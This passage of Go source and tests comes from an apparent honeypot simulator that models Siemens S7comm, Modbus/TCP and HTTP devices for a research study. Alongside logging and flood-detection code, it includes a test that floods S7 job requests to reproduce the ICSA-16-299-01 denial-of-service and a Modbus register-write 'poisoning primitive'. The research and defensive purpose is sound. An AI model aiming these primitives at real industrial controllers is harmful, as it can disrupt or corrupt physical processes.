	if _, err := c.conn.Write(data); err != nil {
		return false, err
	}
	reply, err = c.ReadReply(timeout)
	if err != nil {
		return false, err
	}
	return strings.HasPrefix(reply, "226"), nil
}

// Quit ends the session.
func (c *Client) Quit(timeout time.Duration) {
	_ = c.send("QUIT", timeout)
	_, _ = c.ReadReply(timeout)
	_ = c.conn.Close()
}
