package s7

import (
	"context"
	"strings"
	"testing"
	"time"

	"openhire/internal/netsim"
)

func startServer(t *testing.T, cfg Config) (*netsim.ServiceConn, *[]Event) {
	t.Helper()
	var events []Event
	prev := cfg.OnEvent
	cfg.OnEvent = func(ev Event) {
		if prev != nil {
			prev(ev)
		}
		events = append(events, ev)
	}
	srv := NewServer(cfg)
	client, server := netsim.NewServiceConnPair(
		netsim.Endpoint{IP: netsim.MustParseIPv4("192.0.2.95"), Port: 49000},
		netsim.Endpoint{IP: netsim.MustParseIPv4("10.0.0.10"), Port: 102},
		time.Now(),
	)
	go func() {
		defer server.Close()
		srv.Serve(context.Background(), server)
	}()
	t.Cleanup(func() { client.Close() })
	return client, &events
}

func TestConnectAndReadModule(t *testing.T) {
	client, events := startServer(t, Config{Module: "6ES7 315-2EH14-0AB0"})
	if err := Connect(client, time.Second); err != nil {
		t.Fatal(err)
	}
	module, err := ReadModule(client, time.Second)
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(module, "6ES7") {
		t.Fatalf("module %q", module)
	}
	found := false
	for _, ev := range *events {
		if ev.PDUType == PDUJob && ev.Function == FuncSetupComm {
			found = true
		}
	}
	if !found {
		t.Fatalf("setup job not logged: %+v", *events)
	}
}

func TestJobFloodWedgesDevice(t *testing.T) {
	client, events := startServer(t, Config{MaxJobs: 5})
	if err := Connect(client, time.Second); err != nil {
		t.Fatal(err)
	}
	// Flood PDU-type-1 jobs: the ICSA-16-299-01 DoS.
	for i := 0; i < 20; i++ {
		if _, err := client.Write(BuildJob(FuncSetupComm)); err != nil {
			break
		}
	}
	deadline := time.Now().Add(2 * time.Second)
	for time.Now().Before(deadline) {
		for _, ev := range *events {
			if ev.JobFlood {
				return
			}
		}
		time.Sleep(5 * time.Millisecond)
	}
	t.Fatalf("flood not detected: %d events", len(*events))
}

func TestNonS7TrafficIgnored(t *testing.T) {
	client, _ := startServer(t, Config{})
	if _, err := client.Write([]byte("GET / HTTP/1.1\r\n\r\n")); err != nil {
		t.Fatal(err)
	}
	_ = client.SetReadDeadline(time.Now().Add(300 * time.Millisecond))
	buf := make([]byte, 64)
	if n, _ := client.Read(buf); n != 0 {
		t.Fatalf("non-S7 traffic got %d response bytes", n)
	}
}

func TestCOTPRequiredBeforeJobs(t *testing.T) {
	client, _ := startServer(t, Config{})
	// Send a job without the COTP connect: server must drop the session.
	if _, err := client.Write(BuildJob(FuncRead)); err != nil {
		t.Fatal(err)
	}
	_ = client.SetReadDeadline(time.Now().Add(300 * time.Millisecond))
	buf := make([]byte, 64)
	if n, _ := client.Read(buf); n != 0 {
		t.Fatalf("job before COTP got %d bytes", n)
	}
}
