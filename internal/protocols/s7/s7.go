// Package s7 implements the S7comm protocol preamble used by Siemens PLCs
// and the Conpot honeypot profile: TPKT/COTP connection setup, the S7
// communication-setup job, and SZL identity reads that leak the PLC module
// name. It also models the ICSA-16-299-01 denial-of-service behaviour the
// paper observed: floods of PDU-type-1 (job) requests spawn work in the
// device and eventually wedge it (Section 5.1.4).
package s7

import (
	"bufio"
	"context"
	"encoding/binary"
	"errors"
	"io"
	"net"
	"time"

	"openhire/internal/netsim"
)

// Port is the S7comm port.
const Port uint16 = 102

// COTP PDU types.
const (
	cotpConnectRequest = 0xE0
	cotpConnectConfirm = 0xD0
	cotpData           = 0xF0
)

// S7 PDU types.
const (
	PDUJob      = 0x01
	PDUAck      = 0x02
	PDUAckData  = 0x03
	PDUUserData = 0x07
)

// S7 job functions.
const (
	FuncSetupComm = 0xF0
	FuncRead      = 0x04
	FuncWrite     = 0x05
)

// ErrMalformed reports an invalid frame.
var ErrMalformed = errors.New("s7: malformed frame")

// Event logs one S7 request.
type Event struct {
	Time     time.Time
	Remote   netsim.IPv4
	PDUType  byte
	Function byte
	// JobFlood marks requests past the server's job budget: the
	// ICSA-16-299-01 DoS signature.
	JobFlood bool
}

// Config describes the S7 endpoint.
type Config struct {
	// Module is the PLC identity returned by SZL reads
	// ("6ES7 315-2EH14-0AB0").
	Module string
	// MaxJobs is the job budget before the device wedges (0 = 64) —
	// the ICSA-16-299-01 behaviour.
	MaxJobs int
	// OnEvent receives per-request observations.
	OnEvent func(Event)
}

// Server implements netsim.StreamHandler.
type Server struct {
	cfg Config
}

// NewServer builds a Server.
func NewServer(cfg Config) *Server {
	if cfg.Module == "" {
		cfg.Module = "6ES7 315-2EH14-0AB0"
	}
	if cfg.MaxJobs == 0 {
		cfg.MaxJobs = 64
	}
	return &Server{cfg: cfg}
}

// tpkt wraps a payload in TPKT (RFC 1006) framing.
func tpkt(payload []byte) []byte {
	out := []byte{3, 0, 0, 0}
	binary.BigEndian.PutUint16(out[2:4], uint16(4+len(payload)))
	return append(out, payload...)
}

// readTPKT reads one TPKT frame payload.
func readTPKT(r *bufio.Reader) ([]byte, error) {
	hdr := make([]byte, 4)
	if _, err := io.ReadFull(r, hdr); err != nil {
		return nil, err
	}
	if hdr[0] != 3 {
		return nil, ErrMalformed
	}
	n := int(binary.BigEndian.Uint16(hdr[2:4]))
	if n < 4 || n > 8192 {
		return nil, ErrMalformed
	}
	payload := make([]byte, n-4)
	if _, err := io.ReadFull(r, payload); err != nil {
		return nil, err
	}
	return payload, nil
}

// Serve implements netsim.StreamHandler.
func (s *Server) Serve(ctx context.Context, conn *netsim.ServiceConn) {
	remote, _ := netsim.RemoteIPv4(conn)
	_ = conn.SetDeadline(time.Now().Add(20 * time.Second))
	r := netsim.GetReader(conn)
	defer netsim.PutReader(r)

	// COTP connection setup.
	payload, err := readTPKT(r)
	if err != nil || len(payload) < 2 || payload[1] != cotpConnectRequest {
		return
	}
	// Connect confirm echoes the class-0 option.
	if _, err := conn.Write(tpkt([]byte{6, cotpConnectConfirm, 0, 0, 0, 0, 0})); err != nil {
		return
	}

	jobs := 0
	for i := 0; i < 4096; i++ {
		payload, err := readTPKT(r)
		if err != nil {
			return
		}
		if len(payload) < 3 || payload[1] != cotpData {
			continue
		}
		s7pdu := payload[3:] // skip COTP data header (len, type, eot)
		if len(s7pdu) < 8 || s7pdu[0] != 0x32 {
			continue // not S7comm
		}
		pduType := s7pdu[1]
		var function byte
		if len(s7pdu) > 10 {
			function = s7pdu[10]
		}
		ev := Event{Time: conn.DialTime, Remote: remote, PDUType: pduType, Function: function}
		if pduType == PDUJob {
			jobs++
			if jobs > s.cfg.MaxJobs {
				ev.JobFlood = true
				if s.cfg.OnEvent != nil {
					s.cfg.OnEvent(ev)
				}
				return // device wedged: ICSA-16-299-01
			}
		}
		if s.cfg.OnEvent != nil {
			s.cfg.OnEvent(ev)
		}
		switch {
		case pduType == PDUJob && function == FuncSetupComm:
			if _, err := conn.Write(tpkt(buildAck(FuncSetupComm, nil))); err != nil {
				return
			}
		case pduType == PDUJob && function == FuncRead:
			if _, err := conn.Write(tpkt(buildAck(FuncRead, []byte(s.cfg.Module)))); err != nil {
				return
			}
		case pduType == PDUJob:
			if _, err := conn.Write(tpkt(buildAck(function, nil))); err != nil {
				return
			}
		case pduType == PDUUserData:
			// SZL identity read → module name.
			if _, err := conn.Write(tpkt(buildAck(0, []byte(s.cfg.Module)))); err != nil {
				return
			}
		}
	}
}

// buildAck renders a COTP-data-wrapped S7 ack-data PDU with optional data.
func buildAck(function byte, data []byte) []byte {
	s7 := []byte{0x32, PDUAckData, 0, 0, 0, 1, 0, 2, 0, byte(len(data)), function}
	s7 = append(s7, data...)
	return append([]byte{2, cotpData, 0x80}, s7...)
}

// BuildConnect renders the COTP connection request.
func BuildConnect() []byte {
	return tpkt([]byte{6, cotpConnectRequest, 0, 0, 0, 0, 0})
}

// BuildJob renders an S7 job PDU with the given function.
func BuildJob(function byte) []byte {
	s7 := []byte{0x32, PDUJob, 0, 0, 0, 1, 0, 2, 0, 0, function}
	return tpkt(append([]byte{2, cotpData, 0x80}, s7...))
}

// Connect performs COTP setup plus the S7 communication-setup job.
func Connect(conn net.Conn, timeout time.Duration) error {
	if timeout <= 0 {
		timeout = 3 * time.Second
	}
	_ = conn.SetDeadline(time.Now().Add(timeout))
	if _, err := conn.Write(BuildConnect()); err != nil {
		return err
	}
	r := netsim.GetReader(conn)
	defer netsim.PutReader(r)
	payload, err := readTPKT(r)
	if err != nil {
		return err
	}
	if len(payload) < 2 || payload[1] != cotpConnectConfirm {
		return ErrMalformed
	}
	if _, err := conn.Write(BuildJob(FuncSetupComm)); err != nil {
		return err
	}
	if _, err := readTPKT(r); err != nil {
		return err
	}
	return nil
}

// ReadModule issues a read job and returns the module identity string.
func ReadModule(conn net.Conn, timeout time.Duration) (string, error) {
	if timeout <= 0 {
		timeout = 3 * time.Second
	}
	_ = conn.SetDeadline(time.Now().Add(timeout))
	if _, err := conn.Write(BuildJob(FuncRead)); err != nil {
		return "", err
	}
	br := netsim.GetReader(conn)
	defer netsim.PutReader(br)
	payload, err := readTPKT(br)
	if err != nil {
		return "", err
	}
	if len(payload) < 14 {
		return "", ErrMalformed
	}
	return string(payload[14:]), nil
}
