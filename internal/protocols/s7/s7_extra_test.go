package s7

import (
	"testing"
	"time"
)

func TestWriteJobClassified(t *testing.T) {
	client, events := startServer(t, Config{})
	if err := Connect(client, time.Second); err != nil {
		t.Fatal(err)
	}
	if _, err := client.Write(BuildJob(FuncWrite)); err != nil {
		t.Fatal(err)
	}
	// Drain the ack so the server has processed the job.
	buf := make([]byte, 256)
	_ = client.SetReadDeadline(time.Now().Add(time.Second))
	if _, err := client.Read(buf); err != nil {
		t.Fatal(err)
	}
	found := false
	for _, ev := range *events {
		if ev.PDUType == PDUJob && ev.Function == FuncWrite {
			found = true
		}
	}
	if !found {
		t.Fatalf("write job not logged: %+v", *events)
	}
}

func TestMalformedTPKTDropsSession(t *testing.T) {
	client, _ := startServer(t, Config{})
	// Wrong TPKT version byte.
	if _, err := client.Write([]byte{9, 0, 0, 8, 1, 2, 3, 4}); err != nil {
		t.Fatal(err)
	}
	_ = client.SetReadDeadline(time.Now().Add(300 * time.Millisecond))
	buf := make([]byte, 16)
	if n, _ := client.Read(buf); n != 0 {
		t.Fatalf("malformed TPKT answered with %d bytes", n)
	}
}

func TestDefaultConfig(t *testing.T) {
	s := NewServer(Config{})
	if s.cfg.Module == "" || s.cfg.MaxJobs == 0 {
		t.Fatalf("defaults not applied: %+v", s.cfg)
	}
}
