package modbus

import (
	"context"
	"strings"
	"testing"
	"time"

	"openhire/internal/netsim"
)

func startServer(t *testing.T, cfg Config) (*Server, *netsim.ServiceConn, *[]Event) {
	t.Helper()
	var events []Event
	prev := cfg.OnEvent
	cfg.OnEvent = func(ev Event) {
		if prev != nil {
			prev(ev)
		}
		events = append(events, ev)
	}
	srv := NewServer(cfg)
	client, server := netsim.NewServiceConnPair(
		netsim.Endpoint{IP: netsim.MustParseIPv4("192.0.2.94"), Port: 48000},
		netsim.Endpoint{IP: netsim.MustParseIPv4("10.0.0.9"), Port: 502},
		time.Now(),
	)
	go func() {
		defer server.Close()
		srv.Serve(context.Background(), server)
	}()
	t.Cleanup(func() { client.Close() })
	return srv, client, &events
}

func TestReadHoldingRegisters(t *testing.T) {
	srv, client, _ := startServer(t, Config{})
	srv.SetRegister(5, 1234)
	vals, err := ReadHolding(client, 5, 2, time.Second)
	if err != nil {
		t.Fatal(err)
	}
	if len(vals) != 2 || vals[0] != 1234 || vals[1] != 0 {
		t.Fatalf("vals %v", vals)
	}
}

func TestWriteSinglePoisonsRegister(t *testing.T) {
	srv, client, events := startServer(t, Config{})
	srv.SetRegister(10, 100)
	if err := WriteSingle(client, 10, 666, time.Second); err != nil {
		t.Fatal(err)
	}
	if v, ok := srv.Register(10); !ok || v != 666 {
		t.Fatalf("register = %d, %v", v, ok)
	}
	found := false
	for _, ev := range *events {
		if ev.Write && ev.Address == 10 && ev.Value == 666 {
			found = true
		}
	}
	if !found {
		t.Fatalf("write event missing: %+v", *events)
	}
}

func TestIllegalAddressException(t *testing.T) {
	_, client, _ := startServer(t, Config{Registers: 16})
	if _, err := ReadHolding(client, 100, 4, time.Second); err != ErrException {
		t.Fatalf("err = %v, want ErrException", err)
	}
	if err := WriteSingle(client, 200, 1, time.Second); err != ErrException {
		t.Fatalf("write err = %v", err)
	}
}

func TestInvalidFunctionCodeLogged(t *testing.T) {
	_, client, events := startServer(t, Config{})
	// Function 0x63 is not implemented: the "90% invalid function codes"
	// behaviour from Section 5.1.4.
	if _, err := client.Write(BuildRequest(9, 1, 0x63, []byte{0, 0})); err != nil {
		t.Fatal(err)
	}
	deadline := time.Now().Add(time.Second)
	for time.Now().Before(deadline) {
		for _, ev := range *events {
			if ev.Function == 0x63 && !ev.Valid {
				return
			}
		}
		time.Sleep(5 * time.Millisecond)
	}
	t.Fatalf("invalid function not logged: %+v", *events)
}

func TestReportServerID(t *testing.T) {
	_, client, _ := startServer(t, Config{ServerID: "Siemens SIMATIC S7-200"})
	if _, err := client.Write(BuildRequest(2, 1, FuncReportServerID, nil)); err != nil {
		t.Fatal(err)
	}
	buf := make([]byte, 256)
	_ = client.SetReadDeadline(time.Now().Add(time.Second))
	n, err := client.Read(buf)
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(string(buf[:n]), "SIMATIC") {
		t.Fatalf("response %q", buf[:n])
	}
}

func TestMalformedADURejected(t *testing.T) {
	_, client, _ := startServer(t, Config{})
	// Protocol ID != 0.
	if _, err := client.Write([]byte{0, 1, 0, 9, 0, 2, 1, 3}); err != nil {
		t.Fatal(err)
	}
	_ = client.SetReadDeadline(time.Now().Add(300 * time.Millisecond))
	buf := make([]byte, 16)
	if n, _ := client.Read(buf); n != 0 {
		t.Fatalf("got %d response bytes for malformed ADU", n)
	}
}
