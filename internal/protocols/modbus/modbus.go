// Package modbus implements Modbus/TCP (MBAP framing plus the function
// codes the study observes). The Conpot honeypot profile exposes it as part
// of its Siemens PLC persona; the paper reports poisoning attacks against
// holding registers and notes that "only 10% of the Modbus traffic used
// valid function codes" (Section 5.1.4).
package modbus

import (
	"bufio"
	"context"
	"encoding/binary"
	"errors"
	"io"
	"net"
	"sync"
	"time"

	"openhire/internal/netsim"
)

// Port is the Modbus/TCP port.
const Port uint16 = 502

// Function codes used by the study.
const (
	FuncReadHolding     = 0x03
	FuncWriteSingle     = 0x06
	FuncWriteMultiple   = 0x10
	FuncReportServerID  = 0x11
	FuncReadDeviceIdent = 0x2B
)

// Exception codes.
const (
	ExcIllegalFunction = 0x01
	ExcIllegalAddress  = 0x02
)

// ErrMalformed reports an invalid ADU.
var ErrMalformed = errors.New("modbus: malformed ADU")

// Request is a decoded Modbus request.
type Request struct {
	TransactionID uint16
	UnitID        byte
	Function      byte
	Data          []byte
}

// Event logs one request for the honeypot.
type Event struct {
	Time     time.Time
	Remote   netsim.IPv4
	Function byte
	Valid    bool // was it one of the implemented function codes
	Write    bool
	Address  uint16
	Value    uint16
}

// Config describes the Modbus endpoint.
type Config struct {
	// ServerID is returned by ReportServerID ("Siemens SIMATIC S7-200").
	ServerID string
	// Registers is the number of holding registers exposed (0 = 128).
	Registers int
	// OnEvent receives per-request observations.
	OnEvent func(Event)
}

// Server implements netsim.StreamHandler with a live register file.
type Server struct {
	cfg Config

	mu   sync.Mutex
	regs []uint16
}

// NewServer builds a Server.
func NewServer(cfg Config) *Server {
	if cfg.Registers == 0 {
		cfg.Registers = 128
	}
	if cfg.ServerID == "" {
		cfg.ServerID = "Siemens SIMATIC S7-200"
	}
	return &Server{cfg: cfg, regs: make([]uint16, cfg.Registers)}
}

// Register returns the live value of holding register addr.
func (s *Server) Register(addr int) (uint16, bool) {
	s.mu.Lock()
	defer s.mu.Unlock()
	if addr < 0 || addr >= len(s.regs) {
		return 0, false
	}
	return s.regs[addr], true
}

// SetRegister seeds a register value (device state).
func (s *Server) SetRegister(addr int, v uint16) {
	s.mu.Lock()
	defer s.mu.Unlock()
	if addr >= 0 && addr < len(s.regs) {
		s.regs[addr] = v
	}
}

// Serve implements netsim.StreamHandler.
func (s *Server) Serve(ctx context.Context, conn *netsim.ServiceConn) {
	remote, _ := netsim.RemoteIPv4(conn)
	_ = conn.SetDeadline(time.Now().Add(20 * time.Second))
	r := netsim.GetReader(conn)
	defer netsim.PutReader(r)
	for i := 0; i < 256; i++ {
		req, err := ReadRequest(r)
		if err != nil {
			return
		}
		resp, ev := s.handle(req)
		ev.Time = conn.DialTime
		ev.Remote = remote
		if s.cfg.OnEvent != nil {
			s.cfg.OnEvent(ev)
		}
		if _, err := conn.Write(resp); err != nil {
			return
		}
	}
}

func (s *Server) handle(req *Request) ([]byte, Event) {
	ev := Event{Function: req.Function}
	switch req.Function {
	case FuncReadHolding:
		ev.Valid = true
		if len(req.Data) < 4 {
			return buildException(req, ExcIllegalAddress), ev
		}
		addr := binary.BigEndian.Uint16(req.Data[0:2])
		count := binary.BigEndian.Uint16(req.Data[2:4])
		ev.Address = addr
		s.mu.Lock()
		if int(addr)+int(count) > len(s.regs) || count == 0 || count > 125 {
			s.mu.Unlock()
			return buildException(req, ExcIllegalAddress), ev
		}
		data := make([]byte, 1+2*count)
		data[0] = byte(2 * count)
		for i := 0; i < int(count); i++ {
			binary.BigEndian.PutUint16(data[1+2*i:], s.regs[int(addr)+i])
		}
		s.mu.Unlock()
		return buildResponse(req, data), ev
	case FuncWriteSingle:
		ev.Valid = true
		ev.Write = true
		if len(req.Data) < 4 {
			return buildException(req, ExcIllegalAddress), ev
		}
		addr := binary.BigEndian.Uint16(req.Data[0:2])
		val := binary.BigEndian.Uint16(req.Data[2:4])
		ev.Address, ev.Value = addr, val
		s.mu.Lock()
		if int(addr) >= len(s.regs) {
			s.mu.Unlock()
			return buildException(req, ExcIllegalAddress), ev
		}
		s.regs[addr] = val
		s.mu.Unlock()
		return buildResponse(req, req.Data[:4]), ev
	case FuncReportServerID:
		ev.Valid = true
		id := []byte(s.cfg.ServerID)
		data := append([]byte{byte(len(id) + 1)}, id...)
		data = append(data, 0xFF) // run indicator: ON
		return buildResponse(req, data), ev
	case FuncReadDeviceIdent:
		ev.Valid = true
		return buildResponse(req, []byte{0x0E, 0x01, 0x01, 0x00, 0x00, 0x01,
			byte(len(s.cfg.ServerID))}), ev
	default:
		return buildException(req, ExcIllegalFunction), ev
	}
}

// ReadRequest reads one MBAP-framed request.
func ReadRequest(r *bufio.Reader) (*Request, error) {
	hdr := make([]byte, 7)
	if _, err := io.ReadFull(r, hdr); err != nil {
		return nil, err
	}
	if binary.BigEndian.Uint16(hdr[2:4]) != 0 { // protocol id must be 0
		return nil, ErrMalformed
	}
	length := binary.BigEndian.Uint16(hdr[4:6])
	if length < 2 || length > 256 {
		return nil, ErrMalformed
	}
	body := make([]byte, length-1) // unit id already in hdr[6]
	if _, err := io.ReadFull(r, body); err != nil {
		return nil, err
	}
	return &Request{
		TransactionID: binary.BigEndian.Uint16(hdr[0:2]),
		UnitID:        hdr[6],
		Function:      body[0],
		Data:          body[1:],
	}, nil
}

func buildResponse(req *Request, data []byte) []byte {
	return buildADU(req.TransactionID, req.UnitID, req.Function, data)
}

func buildException(req *Request, code byte) []byte {
	return buildADU(req.TransactionID, req.UnitID, req.Function|0x80, []byte{code})
}

func buildADU(tid uint16, unit, function byte, data []byte) []byte {
	out := make([]byte, 7, 8+len(data))
	binary.BigEndian.PutUint16(out[0:2], tid)
	binary.BigEndian.PutUint16(out[4:6], uint16(2+len(data)))
	out[6] = unit
	out = append(out, function)
	return append(out, data...)
}

// BuildRequest renders a client request ADU.
func BuildRequest(tid uint16, unit, function byte, data []byte) []byte {
	return buildADU(tid, unit, function, data)
}

// ReadHolding issues a read of count registers at addr over conn.
func ReadHolding(conn net.Conn, addr, count uint16, timeout time.Duration) ([]uint16, error) {
	data := make([]byte, 4)
	binary.BigEndian.PutUint16(data[0:2], addr)
	binary.BigEndian.PutUint16(data[2:4], count)
	resp, err := roundTrip(conn, FuncReadHolding, data, timeout)
	if err != nil {
		return nil, err
	}
	if len(resp) < 1 || int(resp[0]) != len(resp)-1 {
		return nil, ErrMalformed
	}
	vals := make([]uint16, count)
	for i := range vals {
		vals[i] = binary.BigEndian.Uint16(resp[1+2*i:])
	}
	return vals, nil
}

// WriteSingle writes one register — the poisoning primitive.
func WriteSingle(conn net.Conn, addr, value uint16, timeout time.Duration) error {
	data := make([]byte, 4)
	binary.BigEndian.PutUint16(data[0:2], addr)
	binary.BigEndian.PutUint16(data[2:4], value)
	_, err := roundTrip(conn, FuncWriteSingle, data, timeout)
	return err
}

// ErrException is returned when the server answers with an exception.
var ErrException = errors.New("modbus: exception response")

func roundTrip(conn net.Conn, function byte, data []byte, timeout time.Duration) ([]byte, error) {
	if timeout <= 0 {
		timeout = 3 * time.Second
	}
	_ = conn.SetDeadline(time.Now().Add(timeout))
	if _, err := conn.Write(BuildRequest(1, 1, function, data)); err != nil {
		return nil, err
	}
	r := netsim.GetReader(conn)
	defer netsim.PutReader(r)
	hdr := make([]byte, 7)
	if _, err := io.ReadFull(r, hdr); err != nil {
		return nil, err
	}
	length := binary.BigEndian.Uint16(hdr[4:6])
	if length < 2 || length > 256 {
		return nil, ErrMalformed
	}
	body := make([]byte, length-1)
	if _, err := io.ReadFull(r, body); err != nil {
		return nil, err
	}
	if body[0] == function|0x80 {
		return nil, ErrException
	}
	if body[0] != function {
		return nil, ErrMalformed
	}
	return body[1:], nil
}
