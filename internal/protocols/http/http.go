// Package http implements a minimal HTTP/1.1 server and client sufficient
// for the study's honeypot front-ends: static device pages, login forms
// (brute-force target), and flood observation.
//
// The stdlib net/http is built around real listeners; the simulation hands
// us raw net.Conn streams, so a compact request/response codec is simpler
// and keeps the honeypot event hooks at wire level. HTTP is simulated by
// HosTaGe, Conpot and Dionaea in the paper (Section 5.1.6) and received
// web-scraping, brute-force, DoS floods and crypto-mining injection.
package http

import (
	"bufio"
	"bytes"
	"context"
	"fmt"
	"io"
	"net"
	"sort"
	"strconv"
	"strings"
	"time"

	"openhire/internal/netsim"
)

// Port is the default HTTP port.
const Port uint16 = 80

// Request is a parsed HTTP request.
type Request struct {
	Method  string
	Path    string
	Proto   string
	Headers map[string]string
	Body    []byte
}

// Response is an HTTP response under construction.
type Response struct {
	Status  int
	Headers map[string]string
	Body    []byte
}

// maxBodySize bounds request bodies.
const maxBodySize = 1 << 20

// ReadRequest parses one request from r.
func ReadRequest(r *bufio.Reader) (*Request, error) {
	line, err := r.ReadString('\n')
	if err != nil {
		return nil, err
	}
	fields := strings.Fields(strings.TrimSpace(line))
	if len(fields) != 3 {
		return nil, fmt.Errorf("http: malformed request line %q", strings.TrimSpace(line))
	}
	req := &Request{Method: fields[0], Path: fields[1], Proto: fields[2],
		Headers: make(map[string]string)}
	for {
		h, err := r.ReadString('\n')
		if err != nil {
			return nil, err
		}
		h = strings.TrimRight(h, "\r\n")
		if h == "" {
			break
		}
		colon := strings.IndexByte(h, ':')
		if colon < 0 {
			continue
		}
		req.Headers[strings.ToLower(strings.TrimSpace(h[:colon]))] = strings.TrimSpace(h[colon+1:])
	}
	if cl := req.Headers["content-length"]; cl != "" {
		n, err := strconv.Atoi(cl)
		if err != nil || n < 0 || n > maxBodySize {
			return nil, fmt.Errorf("http: bad content-length %q", cl)
		}
		req.Body = make([]byte, n)
		if _, err := io.ReadFull(r, req.Body); err != nil {
			return nil, err
		}
	}
	return req, nil
}

// statusText maps the codes the honeypots emit.
var statusText = map[int]string{
	200: "OK", 301: "Moved Permanently", 302: "Found", 401: "Unauthorized",
	403: "Forbidden", 404: "Not Found", 500: "Internal Server Error",
	503: "Service Unavailable",
}

// Write serializes the response to w.
func (resp *Response) Write(w io.Writer, serverHeader string) error {
	text := statusText[resp.Status]
	if text == "" {
		text = "Unknown"
	}
	scratch := netsim.GetScratch()
	b := (*scratch)[:0]
	b = append(b, "HTTP/1.1 "...)
	b = strconv.AppendInt(b, int64(resp.Status), 10)
	b = append(b, ' ')
	b = append(b, text...)
	b = append(b, "\r\n"...)
	if serverHeader != "" {
		b = append(b, "Server: "...)
		b = append(b, serverHeader...)
		b = append(b, "\r\n"...)
	}
	b = append(b, "Content-Length: "...)
	b = strconv.AppendInt(b, int64(len(resp.Body)), 10)
	b = append(b, "\r\n"...)
	if len(resp.Headers) > 0 {
		keys := make([]string, 0, len(resp.Headers))
		for k := range resp.Headers {
			keys = append(keys, k)
		}
		sort.Strings(keys)
		for _, k := range keys {
			b = append(b, k...)
			b = append(b, ": "...)
			b = append(b, resp.Headers[k]...)
			b = append(b, "\r\n"...)
		}
	}
	b = append(b, "\r\n"...)
	_, err := w.Write(b)
	*scratch = b[:0]
	netsim.PutScratch(scratch)
	if err != nil {
		return err
	}
	_, err = w.Write(resp.Body)
	return err
}

// Handler produces a response for a request.
type Handler func(req *Request) *Response

// Event logs one HTTP request for the honeypot.
type Event struct {
	Time     time.Time
	Remote   netsim.IPv4
	Method   string
	Path     string
	Username string // extracted from login form posts
	Password string
	BodySize int
}

// ServerConfig configures the HTTP endpoint.
type ServerConfig struct {
	// ServerHeader is the Server: banner ("lighttpd/1.4.35", "GoAhead-Webs").
	ServerHeader string
	// Routes maps exact paths to handlers. "/" should always exist.
	Routes map[string]Handler
	// LoginPath receives form posts; credentials are parsed into events.
	LoginPath string
	// OnEvent receives per-request observations.
	OnEvent func(Event)
	// MaxRequestsPerConn bounds keep-alive sessions (0 = 100). Floods hit
	// this and the connection drops, which the honeypot records upstream.
	MaxRequestsPerConn int
}

// Server implements netsim.StreamHandler.
type Server struct {
	cfg ServerConfig
}

// NewServer builds a Server.
func NewServer(cfg ServerConfig) *Server {
	if cfg.MaxRequestsPerConn == 0 {
		cfg.MaxRequestsPerConn = 100
	}
	return &Server{cfg: cfg}
}

// Serve implements netsim.StreamHandler by running the same state machine
// NewStepper hands to the discrete-event engine over blocking reads.
func (s *Server) Serve(ctx context.Context, conn *netsim.ServiceConn) {
	_ = conn.SetDeadline(time.Now().Add(15 * time.Second))
	netsim.ServeStepper(ctx, conn, s.NewStepper())
}

// NewStepper implements netsim.StepProvider: a fresh per-session state
// machine for the conversation engine.
func (s *Server) NewStepper() netsim.Stepper { return &serverStepper{s: s} }

// serverStepper request-parse states.
const (
	rqLine   uint8 = iota // awaiting the request line
	rqHeader              // awaiting a header line (empty line ends headers)
	rqBody                // awaiting Content-Length body bytes
)

// serverStepper is one keep-alive HTTP session as a resumable state machine:
// an incremental ReadRequest whose parse errors and response writes land at
// exactly the points the classic blocking loop returned.
type serverStepper struct {
	s      *Server
	remote netsim.IPv4
	line   []byte // partial input line
	req    *Request
	need   int // body bytes still outstanding
	state  uint8
	served int
}

// Step implements netsim.Stepper.
func (t *serverStepper) Step(c *netsim.ServerConv, ev netsim.ConvEvent) netsim.StepVerdict {
	switch ev {
	case netsim.EvOpen:
		t.remote, _ = c.RemoteIP()
		if t.s.cfg.MaxRequestsPerConn <= 0 {
			return netsim.StepDone
		}
		return netsim.StepMore
	case netsim.EvData:
		return t.feed(c)
	default:
		// EvEOF / EvBroken: ReadRequest would have errored out of the loop.
		return netsim.StepDone
	}
}

// feed advances the incremental request parser as far as the buffered input
// allows, dispatching each completed request.
func (t *serverStepper) feed(c *netsim.ServerConv) netsim.StepVerdict {
	for {
		switch t.state {
		case rqLine:
			line, ok := t.feedLine(c)
			if !ok {
				return netsim.StepMore
			}
			fields := strings.Fields(strings.TrimSpace(line))
			if len(fields) != 3 {
				return netsim.StepDone // malformed request line
			}
			t.req = &Request{Method: fields[0], Path: fields[1], Proto: fields[2],
				Headers: make(map[string]string)}
			t.state = rqHeader

		case rqHeader:
			line, ok := t.feedLine(c)
			if !ok {
				return netsim.StepMore
			}
			h := strings.TrimRight(line, "\r\n")
			if h != "" {
				if colon := strings.IndexByte(h, ':'); colon >= 0 {
					t.req.Headers[strings.ToLower(strings.TrimSpace(h[:colon]))] = strings.TrimSpace(h[colon+1:])
				}
				continue
			}
			// Blank line: headers done, read the body if one is declared.
			t.need = 0
			if cl := t.req.Headers["content-length"]; cl != "" {
				n, err := strconv.Atoi(cl)
				if err != nil || n < 0 || n > maxBodySize {
					return netsim.StepDone // bad content-length
				}
				t.req.Body = make([]byte, 0, n)
				t.need = n
			}
			t.state = rqBody

		case rqBody:
			if t.need > 0 {
				in := c.Input()
				if len(in) > t.need {
					in = in[:t.need]
				}
				t.req.Body = append(t.req.Body, in...)
				c.Consume(len(in))
				t.need -= len(in)
				if t.need > 0 {
					return netsim.StepMore
				}
			}
			if t.dispatch(c) == netsim.StepDone {
				return netsim.StepDone
			}
		}
	}
}

// dispatch handles one fully parsed request: event, route, response write.
func (t *serverStepper) dispatch(c *netsim.ServerConv) netsim.StepVerdict {
	s := t.s
	req := t.req
	ev := Event{Time: c.DialTime(), Remote: t.remote, Method: req.Method,
		Path: req.Path, BodySize: len(req.Body)}
	if s.cfg.LoginPath != "" && req.Path == s.cfg.LoginPath && req.Method == "POST" {
		form := ParseForm(string(req.Body))
		ev.Username = form["username"]
		ev.Password = form["password"]
	}
	if s.cfg.OnEvent != nil {
		s.cfg.OnEvent(ev)
	}
	resp := s.route(req)
	if err := resp.Write(c, s.cfg.ServerHeader); err != nil {
		return netsim.StepDone
	}
	if strings.EqualFold(req.Headers["connection"], "close") {
		return netsim.StepDone
	}
	t.served++
	if t.served >= s.cfg.MaxRequestsPerConn {
		return netsim.StepDone
	}
	t.req = nil
	t.state = rqLine
	return netsim.StepMore
}

// feedLine consumes input toward one '\n'-terminated line, carrying partial
// lines across batches. ok is false when input ran out mid-line.
